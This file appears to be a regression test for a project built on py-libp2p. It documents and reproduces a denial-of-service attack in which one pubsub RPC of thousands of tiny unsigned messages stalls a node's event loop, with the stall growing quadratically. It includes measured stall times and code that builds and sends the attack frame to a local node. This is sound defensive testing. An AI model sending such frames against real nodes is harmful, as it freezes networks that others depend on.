"""ATTACK (h-attack3, on main 8ad662f): one pubsub RPC of a few thousand tiny messages stalls a
node's whole trio loop for seconds; the stall grows with the square of the count.

py-libp2p 0.8.1's `Pubsub.continuously_read_stream` (libp2p/pubsub/pubsub.py:575-586) parses an
RPC of up to `max_inbound_rpc_size` (2 x max_message_bytes + 16 KiB = 528 KiB by default,
protocol/exchange/gossip_router.py:87) and, without a checkpoint, calls
`self.manager.run_task(self.push_msg, ...)` for every message on a topic we subscribe to.
`TrioManager.run_task` (libp2p/tools/anyio_service/trio_manager.py:405-438) first looks for its
caller in the task hierarchy, `_find_parent_task`, which walks every root task, the ones just
spawned by the same loop included (trio_manager.py:277-291): n messages cost O(n^2) steps in
one synchronous stretch of the event loop. Only then does our `GuardedPubsub.push_msg` drop each
message, for a lookup, as `unsupported_key` (no Ed25519 author), charging nobody
(protocol/exchange/pubsub_guards.py:129-143), so the sender keeps its link and sends another.

Measured on the 2-core box, one RPC from one fresh key, nothing signed (about 30 bytes a message):
1,000 messages (30 KB) stall the loop 0.24 s, 2,000 1.1 s, 4,000 4.3 s, 8,000 (240 KB) 16.9 s; the
528 KiB cap admits about 17,000, a stall of over a minute, at the price of one frame. While the
loop stands still nothing else runs (gossip, serving, the judge, the fetcher); and once it moves
the fetcher's breaker (protocol/toolkit/loop_lag.py) reads the lag as its own overload: no dials
for the next 10 s, and no author that fails meanwhile is held to account. Repeating the frame
every few seconds keeps the node frozen.

XFAIL(strict) on 8ad662f: the assertion is what a fix must make true (one peer's frame does not
stall the loop past the breaker's threshold).
"""

from __future__ import annotations

import multiaddr
import pytest
import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils import encode_varint_prefixed

from sapo.protocol.toolkit.hosts import new_noise_host
from sapo.protocol.toolkit.loop_lag import BEHIND_SECONDS
from tests.support.gossip import TOPIC, start_node

MESSAGES = 4000  # 120 KB: a quarter of what one frame may hold
LOOPBACK = multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")


def tiny_messages_rpc(count: int) -> bytes:
    """One RPC frame of `count` unsigned messages on the rollouts topic (a seqno each, no author)."""
    rpc = rpc_pb2.RPC()
    for index in range(count):
        message = rpc.publish.add()
        message.topicIDs.append(TOPIC)
        message.seqno = index.to_bytes(4, "big")
    return encode_varint_prefixed(rpc.SerializeToString())


@pytest.mark.xfail(strict=True, reason="h-attack3: libp2p spawns a task per RPC message, O(n^2), in one loop step")
async def test_one_rpc_of_tiny_messages_does_not_stall_the_nodes_loop():
    frame = tiny_messages_rpc(MESSAGES)
    with trio.fail_after(120):
        async with trio.open_nursery() as nursery:
            victim = await start_node(nursery, exchange="fetch")
            lag = victim.service.fetcher.loop_lag
            victim_info = info_from_p2p_addr(multiaddr.Multiaddr(victim.addr))
            attacker = new_noise_host(create_new_key_pair(), [LOOPBACK])
            async with attacker.run([LOOPBACK]):
                await attacker.connect(victim_info)
                await trio.sleep(1.0)
                idle = lag.worst
                lag.worst = 0.0
                stream = await attacker.new_stream(victim_info.peer_id, [PROTOCOL_ID_V11])
                await stream.write(frame)
                with trio.move_on_after(30):
                    while victim.counters.get("unsupported_key", 0) < MESSAGES:
                        await trio.sleep(0.1)
                await trio.sleep(0.5)  # the probe notes the last wake-up
                print(
                    f"{MESSAGES} messages, {len(frame)} bytes: loop {lag.worst:.2f} s late (idle {idle:.3f}), "
                    f"fetcher behind {lag.behind()}, dropped {victim.counters.get('unsupported_key', 0)}"
                )
                worst, behind = lag.worst, lag.behind()
            nursery.cancel_scope.cancel()
    assert worst < BEHIND_SECONDS and not behind
